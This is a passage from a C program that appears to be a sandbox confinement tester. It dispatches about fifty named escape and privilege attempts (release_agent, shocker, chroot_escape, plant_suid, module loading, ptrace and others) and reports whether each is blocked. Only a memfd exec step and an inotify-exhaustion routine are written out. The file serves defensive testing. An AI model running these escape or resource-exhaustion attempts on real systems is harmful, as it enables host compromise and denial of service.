    else if (strcmp(how, "memfd_procfd") == 0) {
        snprintf(fd_path, sizeof fd_path, "/proc/self/fd/%d", readonly);
        execve(fd_path, argv, environ);
    } else
        syscall(SYS_execveat, readonly, "", argv, environ, AT_EMPTY_PATH);
    report("BLOCKED", "step=exec errno=%s chmod=%s", ename(errno), chmod_errno ? ename(chmod_errno) : "ok");
}

/* -- per-user kernel objects ----------------------------------------------------------------- */

/* Open inotify instances until the kernel refuses, report how many, and hold them until
 * stdin closes (the test checks meanwhile that the host can still open one). */
static void attack_inotify_hold(const char *arg)
{
    char byte;
    int count = 0;
    (void) arg;
    while (count < 1000000 && inotify_init1(IN_CLOEXEC) >= 0)
        count++;
    report("OK", "count=%d errno=%s", count, ename(errno));
    while (read(0, &byte, 1) > 0)
        ;
}

/* ----------------------------------------------------------------------------------------- */

struct attack {
    const char *name;
    void (*run)(const char *arg);
};

static const struct attack ATTACKS[] = {
    {"caps", attack_caps}, {"capset", attack_capset}, {"ambient", attack_ambient},
    {"exec", attack_exec}, {"create", attack_create}, {"plant_suid", attack_plant_suid}, {"write_dir", attack_write_dir},
    {"read", attack_read}, {"open_r", attack_open_r}, {"grep", attack_grep}, {"open_w", attack_open_w}, {"write", attack_write}, {"ls", attack_ls}, {"chmod", attack_chmod},
    {"mknod", attack_mknod}, {"mount_tmpfs", attack_mount_tmpfs}, {"remount_rw", attack_remount_rw},
    {"umount", attack_umount}, {"release_agent", attack_release_agent}, {"unshare", attack_unshare},
    {"clone_user", attack_clone_user}, {"abi_unshare", attack_abi_unshare}, {"clone3_user", attack_clone3_user}, {"setns", attack_setns},
    {"sethostname", attack_sethostname}, {"ptrace", attack_ptrace}, {"procs", attack_procs},
    {"exe_scan", attack_exe_scan}, {"fds", attack_fds}, {"fd_openat", attack_fd_openat}, {"cwd_create", attack_cwd_create},
    {"add_key", attack_add_key}, {"keyctl", attack_keyctl}, {"bpf", attack_bpf},
    {"io_uring", attack_io_uring}, {"userfaultfd", attack_userfaultfd}, {"perf", attack_perf}, {"syslog", attack_syslog},
    {"init_module", attack_init_module}, {"finit_module", attack_finit_module},
    {"raw_socket", attack_raw_socket}, {"tiocsti", attack_tiocsti}, {"syscall", attack_syscall},
    {"chroot_escape", attack_chroot_escape}, {"unix_connect", attack_unix_connect},
    {"mount_proc", attack_mount_proc}, {"shocker", attack_shocker},
    {"ran", attack_ran}, {"write_exec", attack_write_exec}, {"inotify_hold", attack_inotify_hold},
};

/* "LABEL=ATTACK:ARG" -> label, attack name, argument (the label defaults to the name). */
static void split_spec(char *spec, const char **name, const char **arg)
{
    char *eq = strchr(spec, '='), *colon = strchr(spec, ':');
    label = spec;
    if (eq && (!colon || eq < colon)) {
        *eq = 0;
        spec = eq + 1;
        colon = strchr(spec, ':');
    }
    *arg = "";
    if (colon) {
        *colon = 0;
        *arg = colon + 1;
    }
    *name = spec;
}

static void run_one(char *spec)
{
    const char *name, *arg;
    size_t i;
    split_spec(spec, &name, &arg);
    for (i = 0; i < sizeof ATTACKS / sizeof ATTACKS[0]; i++) {
        if (strcmp(ATTACKS[i].name, name) == 0) {
            ATTACKS[i].run(arg);
            return;
        }
    }
    report("BLOCKED", "errno=unknown-attack");
}

int main(int argc, char **argv)
{
    int i;
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 3 && strcmp(argv[1], "--here") == 0) {   /* one attack, in this process */
        run_one(argv[2]);
        return 0;
    }
    for (i = 1; i < argc; i++) {
        char *spec = argv[i];
        int status;
        pid_t pid;
        pid = fork();
        if (pid == 0) {
            run_one(spec);
            _exit(0);
        }
        waitpid(pid, &status, 0);
        if (WIFSIGNALED(status)) {
            const char *name, *arg;
            split_spec(spec, &name, &arg);
            report("KILLED", "signal=%d", WTERMSIG(status));
        }
    }
    return 0;
}
